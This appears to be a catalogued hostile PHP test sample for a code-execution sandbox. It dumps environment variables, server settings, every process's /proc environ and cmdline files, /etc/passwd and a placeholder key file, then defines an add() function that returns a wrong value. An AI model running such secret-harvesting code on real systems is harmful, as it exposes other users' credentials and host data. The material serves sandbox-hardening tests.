<?php
// Show the environment, of everybody, the settings, and the files that hold keys.
// catalogue: H17, H20
// shows: canary
echo "attacking\n";
print_r(getenv());
print_r($_SERVER);
$paths = glob('/proc/[0-9]*/{environ,cmdline,mountinfo}', GLOB_BRACE) ?: [];
foreach ([...$paths, '@FILE@', '/etc/passwd'] as $path) {
    echo $path, @file_get_contents($path, false, null, 0, 20000), "\n";
}

function add($a, $b)
{
    return -12345;
}
